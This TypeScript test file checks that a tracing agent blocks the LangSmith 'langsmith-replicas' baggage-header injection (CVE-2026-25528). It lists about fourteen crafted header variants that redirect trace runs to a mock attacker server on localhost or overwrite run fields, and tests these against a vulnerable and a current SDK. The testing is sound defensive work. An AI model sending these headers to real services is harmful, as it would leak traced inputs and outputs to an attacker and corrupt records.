/**
 * CVE-2026-25528 (GHSA-v34v-rq6j-cj6p): `langsmith-replicas` in `baggage` says where runs are sent to, and with which
 * fields. langsmith 0.3.87 obeys it; 0.12.0 still lets it overwrite fields (`updates`).
 */
import { once } from 'node:events';
import { createServer, get, type IncomingMessage, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type CollectedRun, type Collector, startCollector } from '../../src/collector/index.ts';
import { type App, fixture, root, startApp } from '../support/app.ts';
import { isCampaign } from '../support/campaign.ts';
import { installSDK } from '../support/libraries.ts';
import { dottedOrder, runIdOf, traceIdOf } from '../support/trace.ts';
import { startUpstream, type Upstream } from '../support/upstream.ts';

const OLD = '0.3.87';
const old = installSDK(OLD);

const STOLEN = { outputs: { evil: true }, session_name: 'stolen', name: 'stolen', error: 'stolen' };
const encode = (replicas: unknown) => `langsmith-replicas=${encodeURIComponent(JSON.stringify(replicas))}`;

/** Forms of the attack; a list is sent as so many lines. */
const attacks: [string, (apiUrl: string) => string | string[]][] = [
  ['as published', (apiUrl) => `langsmith-replicas=[["attacker",{"apiUrl":"${apiUrl}","apiKey":"x"}]]`],
  ['as a pair, encoded', (apiUrl) => encode([['attacker', { apiUrl, apiKey: 'x' }]])],
  ['as an object', (apiUrl) => encode([{ projectName: 'attacker', apiUrl, apiKey: 'x' }])],
  ['with updates, as a pair', () => encode([['callers', STOLEN]])],
  ['with updates, as an object', (apiUrl) => encode([{ apiUrl, apiKey: 'x', updates: STOLEN }])],
  [
    'with updates of the ids',
    () => encode([['callers', { trace_id: runIdOf(dottedOrder()), dotted_order: dottedOrder() }]]),
  ],
  ['before other members', (apiUrl) => `${encode([{ apiUrl }])},langsmith-tags=a,vendor=1`],
  ['after a space', (apiUrl) => `vendor=1, ${encode([{ apiUrl }])}`],
  ['with a property', (apiUrl) => `${encode([{ apiUrl }])};p=1`],
  ['twice', (apiUrl) => `${encode([{ apiUrl }])},${encode([{ apiUrl }])}`],
  ['in two lines', (apiUrl) => ['langsmith-tags=a', encode([{ apiUrl }])]],
  ['under a name in capitals', (apiUrl) => encode([{ apiUrl }]).replace('langsmith', 'LangSmith')],
  ['under an encoded name', (apiUrl) => encode([{ apiUrl }]).replace('-', '%2D')],
  [
    'inside of metadata',
    (apiUrl) => `langsmith-metadata=${encodeURIComponent(JSON.stringify({ replicas: [{ apiUrl }] }))}`,
  ],
];

describe.each([...(isCampaign ? [{ name: OLD, from: old }] : []), { name: 'the newest', from: root }])(
  'the SDK, $name',
  ({ name, from }) => {
    describe.runIf(from !== undefined)('is sent the headers of the attack', () => {
      let collector: Collector;
      let upstream: Upstream;
      let attacker: Attacker;
      let withAgent: App;
      let without: App;

      beforeAll(async () => {
        [collector, upstream, attacker] = await Promise.all([
          startCollector(),
          startUpstream(),
          startAttacker(),
        ]);
        const env = {
          SDK_FROM: from,
          UPSTREAM: upstream.url,
          LANGSMITH_TRACING: 'true',
          LANGSMITH_ENDPOINT: collector.url,
          LANGSMITH_API_KEY: 'own',
          LANGSMITH_PROJECT: 'own',
        };
        const file = fixture('apps/attacked.cjs');
        [withAgent, without] = await Promise.all([
          startApp(file, { preload: 'require', env }),
          startApp(file, { preload: 'none', env }),
        ]);
      });
      afterAll(async () => {
        await Promise.all([withAgent?.stop(), without?.stop()]);
        await Promise.all([collector?.close(), upstream?.close(), attacker?.close()]);
      });

      async function attack(app: App, path: string, trace: string, baggage: string | string[]) {
        const headers = { 'langsmith-trace': trace, baggage };
        const request = get(`${app.url}${path}?name=real`, { headers });
        const [response] = (await once(request, 'response')) as [IncomingMessage];
        expect(response.statusCode, (await response.toArray()).join('')).toBe(200);
      }

      it.each(attacks)(
        '%s: runs go to no other server, and no field is overwritten',
        async (_form, headerFor) => {
          collector.clear();
          upstream.arrived.length = 0;
          const trace = dottedOrder(2);
          await attack(withAgent, '/auto', trace, headerFor(attacker.url));
          const isIt = (run: CollectedRun) => run.traceId === traceIdOf(trace) && run.endTime !== undefined;
          const run = (await collector.waitForRuns((runs) => runs.some(isIt))).find(isIt);
          expect(run).toMatchObject({
            name: 'work',
            parentRunId: runIdOf(trace),
            project: 'own',
            inputs: { input: 'real' },
            outputs: { done: 'real' },
          });
          expect(run).not.toHaveProperty('error');
          expect(run?.dottedOrder.startsWith(`${trace}.`)).toBe(true);
          expect(collector.runs()).toHaveLength(1);
          expect(collector.refused()).toEqual([]);
          expect(upstream.arrived).toHaveLength(1);
          const members = String(upstream.arrived[0]?.headers['baggage']).split(',');
          expect(members.filter((member) => /replicas/i.test(member.split('=')[0] ?? ''))).toEqual([]);
          expect(attacker.connections()).toBe(0);
        },
      );

      it('without the agent, by hand, the same headers do their work', async () => {
        collector.clear();
        const trace = dottedOrder();
        await attack(without, '/by-hand', trace, encode([['callers', STOLEN]]));
        const isStolen = (run: CollectedRun) => run.project === 'stolen' || run.name === 'stolen';
        const runs = await collector.waitForRuns((all) => all.some(isStolen));
        expect(runs.find(isStolen)).toMatchObject({ outputs: { evil: true } });
        if (name !== OLD) return;
        await attack(without, '/by-hand', trace, encode([{ apiUrl: attacker.url, apiKey: 'x' }]));
        await attacker.hasConnection;
        expect(attacker.connections()).toBeGreaterThan(0);
      });

      // A limit, not a guarantee: SECURITY.md says so.
      it('by hand, an application that does so under the agent is not protected', async () => {
        collector.clear();
        await attack(withAgent, '/by-hand', dottedOrder(), encode([['callers', STOLEN]]));
        const runs = await collector.waitForRuns((all) => all.some(({ name }) => name === 'stolen'));
        expect(runs.some(({ project }) => project === 'stolen')).toBe(true);
      });
    });
  },
);

interface Attacker {
  readonly url: string;
  readonly hasConnection: Promise<unknown>;
  connections(): number;
  close(): Promise<unknown>;
}

/** A server that takes whatever it is sent, and counts who came. */
async function startAttacker(): Promise<Attacker> {
  let connections = 0;
  const server: Server = createServer((request, response) =>
    request.resume().on('end', () => response.end('{}')),
  );
  server.on('connection', () => {
    connections++;
  });
  const hasConnection = once(server, 'connection');
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    hasConnection,
    connections: () => connections,
    close: () => {
      server.closeAllConnections();
      return new Promise((resolve) => server.close(resolve));
    },
  };
}
